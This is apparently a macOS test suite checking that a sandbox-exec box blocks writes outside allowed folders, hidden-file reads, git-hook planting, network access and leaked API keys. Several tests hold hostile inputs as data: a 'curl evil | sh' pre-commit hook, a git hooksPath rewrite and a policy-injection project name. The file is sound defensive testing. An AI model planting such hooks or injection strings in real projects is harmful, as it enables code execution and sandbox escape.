"""The macOS box at work: real ``/usr/bin/sandbox-exec``, real processes, a real server.

Each test builds a policy on a real temporary tree, turns it into a plan with
:func:`sandbox.macos.seatbelt.plan` and runs it with :func:`sandbox.process.supervisor.run`, as a
session does. They run only on macOS (the workflow ``.github/workflows/macos.yml``).

The user temp folder of a macOS session is the one the system gives
(``confstr(_CS_DARWIN_USER_TEMP_DIR)``), writable in the box; pytest's own temporary
folders lie inside it. So the trees here are made under ``/private/tmp``, which the box
may not write, and "outside every writable folder" is a sibling inside the test's tree:
nothing here writes outside it, even if the box failed.
"""

from __future__ import annotations

import os
import shutil
import socket
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers.macos_tree import SH, TIMEOUT, Tree, denied

from sandbox.policy import Policy

pytestmark = [
    pytest.mark.macos,
    pytest.mark.skipif(
        sys.platform != "darwin",
        reason=f"needs macOS sandbox-exec; this is {sys.platform}",
    ),
]


@pytest.fixture
def tmp_path() -> Iterator[Path]:
    """A fresh folder outside every folder the box may write (see the docstring)."""
    d = Path(os.path.realpath(tempfile.mkdtemp(dir="/private/tmp", prefix="hs-mac-")))
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return Tree(tmp_path)


# -- writes ---------------------------------------------------------------------------------


def test_box_writes_in_the_project(tree: Tree) -> None:
    result = tree.sh("echo made > made.txt")
    assert result.ok, result
    assert (tree.project / "made.txt").read_text() == "made\n"


def test_box_cannot_write_outside_its_folders(tree: Tree) -> None:
    target = tree.outside / "escaped.txt"
    result = tree.run(["/usr/bin/touch", str(target)])
    assert denied(result), result
    assert not target.exists()


def test_box_writes_its_private_temp_folder_through_tmpdir(tree: Tree) -> None:
    result = tree.sh('echo t > "$TMPDIR/t.txt" && printf %s "$TMPDIR"')
    assert result.ok, result
    assert (tree.private_tmp / "t.txt").read_text() == "t\n"
    assert os.path.realpath(result.stdout.decode()) == str(tree.private_tmp)


def test_box_writes_the_user_temp_folder(tree: Tree) -> None:
    target = Path(tree.policy.tmpdir) / f"hs-user-tmp-{os.getpid()}.txt"
    try:
        result = tree.run(["/usr/bin/touch", str(target)])
        assert result.ok, result
        assert target.exists()
    finally:
        target.unlink(missing_ok=True)


def test_the_user_temp_folder_is_the_systems_not_tmpdir(tree: Tree) -> None:
    from sandbox.policy.usertmp import CS_DARWIN_USER_TEMP_DIR, confstr

    assert tree.policy.tmpdir.startswith("/private/var/folders/")
    assert tree.policy.tmpdir.endswith("/T")
    assert tree.policy.tmpdir == os.path.realpath(confstr(CS_DARWIN_USER_TEMP_DIR) or "")
    # The policy's TMPDIR (the test's tree) is not a writable root.
    result = tree.run(["/usr/bin/touch", str(tree.root / "via-tmpdir")])
    assert denied(result), result


@pytest.mark.parametrize("tmpdir", [None, "HOME"])
def test_an_unset_or_odd_tmpdir_widens_nothing(tmp_path: Path, tmpdir: str | None) -> None:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    if tmpdir == "HOME":
        env["TMPDIR"] = str(tmp_path)
    t = Tree(tmp_path / "t", env=env)
    assert t.policy.tmpdir.startswith("/private/var/folders/")
    for target in ("/private/tmp/hs-widened", str(tmp_path / "home-file")):
        result = t.run(["/usr/bin/touch", target])
        assert denied(result), (target, result)
        assert not os.path.exists(target)


def test_tmp_is_not_writable_but_the_boxs_tmpdir_is(tree: Tree) -> None:
    # The decision in the README: /tmp is shared with the host (its sockets, its files);
    # tools find their temp folder through TMPDIR, the session's private one.
    target = f"/private/tmp/hs-box-{os.getpid()}"
    result = tree.sh(f'echo x > {target}; echo y > "$TMPDIR/ok" && cat "$TMPDIR/ok"')
    assert not os.path.exists(target)
    assert b"Operation not permitted" in result.stderr, result
    assert result.stdout == b"y\n"


def test_tmp_listed_in_writable_is_writable(tmp_path: Path) -> None:
    target = Path("/private/tmp") / f"hs-opted-in-{os.getpid()}"
    t = Tree(tmp_path / "t", writable=["/tmp"])
    try:
        assert t.run(["/usr/bin/touch", str(target)]).ok
        assert target.exists()
    finally:
        target.unlink(missing_ok=True)


def test_box_writes_a_sandbox_writable_folder(tmp_path: Path) -> None:
    extra = tmp_path / "cache"
    extra.mkdir()
    t = Tree(tmp_path / "t", writable=[str(extra)])
    assert t.run(["/usr/bin/touch", str(extra / "c")]).ok
    assert (extra / "c").exists()


def test_box_cannot_write_through_a_link_in_the_project(tree: Tree) -> None:
    (tree.project / "out").symlink_to(tree.outside)
    result = tree.sh("echo x > out/through-link.txt")
    assert result.returncode != 0, result
    assert not (tree.outside / "through-link.txt").exists()


def test_box_writes_to_dev_null(tree: Tree) -> None:
    result = tree.sh("echo quiet > /dev/null && echo loud")
    assert result.ok, result
    assert result.stdout == b"loud\n"


def test_box_runs_in_the_project(tree: Tree) -> None:
    result = tree.run(["/bin/pwd", "-P"])
    assert result.ok, result
    assert result.stdout.decode().strip() == str(tree.project)


# -- hidden paths -----------------------------------------------------------------------------


def test_box_cannot_read_a_hidden_folder(tree: Tree) -> None:
    result = tree.run(["/bin/cat", str(tree.secret / "key")])
    assert denied(result), result
    assert b"the-secret-key" not in result.stdout


def test_box_cannot_list_a_hidden_folder(tree: Tree) -> None:
    result = tree.run(["/bin/ls", str(tree.secret)])
    assert result.returncode != 0, result
    assert b"key" not in result.stdout


def test_box_cannot_read_a_hidden_file_through_a_link(tree: Tree) -> None:
    (tree.project / "k").symlink_to(tree.secret / "key")
    result = tree.run(["/bin/cat", "k"])
    assert result.returncode != 0, result
    assert b"the-secret-key" not in result.stdout


def test_box_cannot_move_a_hidden_folder_out_from_under_its_rule(tmp_path: Path) -> None:
    t = Tree(tmp_path / "t")
    inner = t.project / "vault"
    inner.mkdir()
    (inner / "key").write_text("inner-secret\n")
    policy = Policy.create(
        str(t.project), private_tmp=str(t.private_tmp), hidden=[str(inner)],
        hide_defaults=False, env=dict(t.policy.env), home=str(tmp_path), platform="darwin",
    )
    result = t.run([SH, "-c", "mv vault v2; cat v2/key vault/key"], policy)
    assert b"inner-secret" not in result.stdout, result
    assert (inner / "key").exists()


def test_a_hidden_path_written_in_another_case_is_still_hidden(tmp_path: Path) -> None:
    probe = tmp_path / "CaseProbe"
    probe.mkdir()
    if not (tmp_path / "caseprobe").exists():
        pytest.skip("this disk tells case apart; the rule is for case-insensitive disks")
    t = Tree(tmp_path / "t", hidden=[str(tmp_path / "t" / "SECRET")])
    result = t.run(["/bin/cat", str(t.secret / "key")])
    assert denied(result), result
    assert b"the-secret-key" not in result.stdout


# -- protected git files ------------------------------------------------------------------------


def test_box_cannot_plant_a_git_hook(tree: Tree) -> None:
    result = tree.sh("echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert result.returncode != 0, result
    assert not (tree.project / ".git" / "hooks" / "pre-commit").exists()


def test_box_cannot_rewrite_git_config(tree: Tree) -> None:
    before = (tree.project / ".git" / "config").read_text()
    result = tree.sh("echo '[core] hooksPath = /tmp/h' >> .git/config")
    assert result.returncode != 0, result
    assert (tree.project / ".git" / "config").read_text() == before


def test_box_cannot_move_git_hooks_away(tree: Tree) -> None:
    result = tree.run(["/bin/mv", ".git/hooks", "hooks-moved"])
    assert denied(result), result
    assert (tree.project / ".git" / "hooks").is_dir()
    assert not (tree.project / "hooks-moved").exists()


def test_box_cannot_move_the_git_folder_away(tree: Tree) -> None:
    result = tree.run(["/bin/mv", ".git", ".git2"])
    assert denied(result), result
    assert (tree.project / ".git" / "hooks").is_dir()


def test_box_cannot_replace_git_hooks_with_its_own_folder(tree: Tree) -> None:
    result = tree.sh("mkdir -p h && echo x > h/pre-commit && mv -f h .git/hooks")
    assert result.returncode != 0, result
    assert os.listdir(tree.project / ".git" / "hooks") == ["pre-commit.sample"]


def test_box_cannot_hard_link_git_config(tree: Tree) -> None:
    result = tree.run(["/bin/ln", ".git/config", "alias"])
    assert result.returncode != 0, result
    assert not (tree.project / "alias").exists()


def case_insensitive_disk(folder: Path) -> bool:
    probe = folder / "CaseProbe"
    probe.mkdir()
    try:
        return (folder / "caseprobe").exists()
    finally:
        probe.rmdir()


def test_box_cannot_plant_a_hook_through_another_case(tree: Tree) -> None:
    if not case_insensitive_disk(tree.root):
        pytest.skip("this disk tells case apart, so .git/HOOKS is not .git/hooks here")
    result = tree.sh("echo 'touch PWNED' > .git/HOOKS/pre-commit; "
                     "mkdir -p .GIT/Hooks && echo x > .GIT/Hooks/post-checkout")
    assert result.returncode != 0, result
    assert os.listdir(tree.project / ".git" / "hooks") == ["pre-commit.sample"]


def test_box_cannot_create_a_missing_hooks_folder_in_another_case(tmp_path: Path) -> None:
    if not case_insensitive_disk(tmp_path):
        pytest.skip("this disk tells case apart, so .git/HOOKS is not .git/hooks here")
    root = tmp_path / "t"
    (root / "proj" / ".git").mkdir(parents=True)
    (root / "proj" / ".git" / "config").write_text("[core]\n")
    (root / "ptmp").mkdir()
    policy = Policy.create(str(root / "proj"), private_tmp=str(root / "ptmp"),
                           hide_defaults=False, platform="darwin")
    from sandbox.macos import seatbelt
    from sandbox.process import supervisor

    script = "mkdir .git/HOOKS && echo x > .git/HOOKS/pre-commit"
    plan = seatbelt.plan(policy, [SH, "-c", script])
    result = supervisor.run(plan, timeout=TIMEOUT)
    assert result.returncode != 0, result
    assert not (root / "proj" / ".git" / "hooks").exists()


def test_box_cannot_move_the_git_folder_away_in_another_case(tree: Tree) -> None:
    if not case_insensitive_disk(tree.root):
        pytest.skip("this disk tells case apart")
    result = tree.run(["/bin/mv", ".GIT", ".git2"])
    assert denied(result), result
    assert (tree.project / ".git" / "hooks").is_dir()


def test_box_cannot_read_a_hidden_folder_in_another_case(tree: Tree) -> None:
    if not case_insensitive_disk(tree.root):
        pytest.skip("this disk tells case apart")
    result = tree.run(["/bin/cat", str(tree.root / "SECRET" / "KEY")])
    assert denied(result), result
    assert b"the-secret-key" not in result.stdout


def test_box_can_write_the_rest_of_git(tree: Tree) -> None:
    # Commits must work: only hooks and config are protected.
    result = tree.sh("echo ref: refs/heads/x > .git/HEAD && echo o > .git/objects/o")
    assert result.ok, result
    assert (tree.project / ".git" / "objects" / "o").exists()


# -- network --------------------------------------------------------------------------------


@pytest.fixture
def server() -> Iterator[tuple[int, list[str]]]:
    """A TCP server on 127.0.0.1 that answers ``hello`` and records each connection."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    seen: list[str] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, addr = sock.accept()
            except (TimeoutError, OSError):
                continue
            seen.append(addr[0])
            with conn:
                conn.sendall(b"hello\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], seen
    finally:
        stop.set()
        thread.join(2)
        sock.close()


CONNECT = (
    "import socket, sys\n"
    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)\n"
    "sys.stdout.write(s.recv(6).decode())\n"
)


def test_box_cannot_connect_to_a_server_on_127_0_0_1(
    tree: Tree, server: tuple[int, list[str]]
) -> None:
    port, seen = server
    result = tree.run([sys.executable, "-c", CONNECT, str(port)])
    assert result.returncode != 0, result
    assert b"hello" not in result.stdout
    assert seen == []


def test_box_with_network_allowed_reaches_the_server(
    tmp_path: Path, server: tuple[int, list[str]]
) -> None:
    # The same program, network = true: proves the test above can fail.
    port, seen = server
    t = Tree(tmp_path / "t", network=True)
    result = t.run([sys.executable, "-c", CONNECT, str(port)])
    assert result.ok, result
    assert result.stdout == b"hello\n"
    assert seen == ["127.0.0.1"]


# -- environment ------------------------------------------------------------------------------


def test_box_has_no_provider_keys(tree: Tree) -> None:
    result = tree.run(["/usr/bin/env"])
    assert result.ok, result
    names = {line.split("=", 1)[0] for line in result.stdout.decode().splitlines()}
    assert not names & {"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "SOMETHING_API_KEY"}
    assert b"sk-" not in result.stdout
    assert "HARMLESS" in names


# -- hostile names ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ['") (allow default) ("', 'q"uo\\te', "ünï名"])
def test_a_hostile_project_name_changes_nothing(tmp_path: Path, name: str) -> None:
    t = Tree(tmp_path / "t", project_name=name)
    assert t.sh("echo in > inside.txt").ok
    assert (t.project / "inside.txt").exists()
    outside = t.run(["/usr/bin/touch", str(t.outside / "x")])
    assert denied(outside), outside
    assert not (t.outside / "x").exists()


# -- canonical paths on a real Mac ----------------------------------------------------------


def test_canonical_puts_tmp_and_var_under_private() -> None:
    from sandbox.macos.seatbelt import canonical

    assert canonical("/tmp") == "/private/tmp"
    assert canonical("/var/folders") == "/private/var/folders"
    assert canonical("/etc/hosts") == "/private/etc/hosts"


def test_canonical_resolves_links(tmp_path: Path) -> None:
    from sandbox.macos.seatbelt import canonical

    target = tmp_path / "target"
    target.mkdir()
    (tmp_path / "link").symlink_to(target)
    assert canonical(str(tmp_path / "link" / "not-yet")) == os.path.join(
        os.path.realpath(target), "not-yet"
    )


def test_canonical_spells_names_as_the_disk_stores_them(tmp_path: Path) -> None:
    from sandbox.macos.seatbelt import canonical

    (tmp_path / "MixedCase").mkdir()
    if not (tmp_path / "mixedcase").exists():
        pytest.skip("this disk tells case apart")
    assert canonical(str(tmp_path / "MIXEDCASE")) == os.path.realpath(tmp_path / "MixedCase")
